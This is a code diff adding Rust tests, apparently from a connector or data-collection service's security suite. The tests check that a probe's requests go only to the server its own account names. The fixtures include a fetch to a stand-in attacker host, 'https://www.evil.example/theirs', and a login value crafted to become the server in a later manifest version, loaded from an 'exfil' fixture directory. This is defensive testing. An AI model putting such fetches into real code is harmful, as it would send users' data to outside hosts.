@@ -195,6 +195,49 @@ async fn an_account_is_good_for_what_its_owner_was_shown() {
     assert_eq!(stage.collect(&account).await.unwrap_err().code(), "no-account");
 }
 
+/// The probe, for the server that its account names.
+const OWN_SERVER: &str = include_str!("../exfil/C10-own-server/manifest.toml");
+
+/// What is typed for it, but for the server.
+fn typed(login: &'static str) -> [(&'static str, &'static str); 3] {
+    let program = r#"{"fetch": {"route": "any", "slots": {"rest": "mine"}, "bytes": "x"}}
+        {"fetch": {"route": "GET https://www.evil.example/theirs", "bytes": "x"}}"#;
+    [("program", program), ("login", login), ("password", PASSWORD)]
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_run_goes_to_the_server_of_its_own_account() {
+    for (off, leaves) in [(None, false), (Some(Check::Declared), true)] {
+        let stage = Stage::new(World::new().await, OWN_SERVER, off).await;
+        let account = async |server| {
+            let typed = [&typed("alice")[..], &[("server", server)]].concat();
+            stage.account_with("probe", &typed).await.unwrap()
+        };
+        let mine = account("api.acme.example/dav/").await;
+        let theirs = account("https://www.evil.example").await;
+        stage.collect(&mine).await.unwrap();
+        let left = stage.left();
+        assert!(left.contains("PROPFIND /any/mine") && left.contains("api.acme"), "{left}");
+        assert_eq!(left.contains("evil.example"), leaves, "{left}");
+        stage.collect(&theirs).await.unwrap();
+        assert!(stage.left().contains("host: www.evil.example"), "{}", stage.left());
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn what_was_typed_as_a_name_is_no_server_of_a_later_version() {
+    let stage = Stage::new(World::new().await, OWN_SERVER, None).await;
+    let typed = [&typed("www.evil.example")[..], &[("server", "api.acme.example")]].concat();
+    let account = stage.account_with("probe", &typed).await.unwrap();
+    stage.collect(&account).await.unwrap();
+    let later = OWN_SERVER
+        .replacen("name = \"login\"", "name = \"login\"\nkind = \"server\"", 1)
+        .replacen("origin = \"{server}\"", "origin = \"{login}\"", 1);
+    stage.world.install_bytes(probe(&later)).await;
+    assert_eq!(stage.collect(&account).await.unwrap_err().code(), "reconnect");
+    assert!(!stage.left().contains("evil.example"), "{}", stage.left());
+}
+
 #[tokio::test(flavor = "multi_thread")]
 async fn a_deposit_tells_nothing_of_what_is_stored() {
     let told = async |fault| {
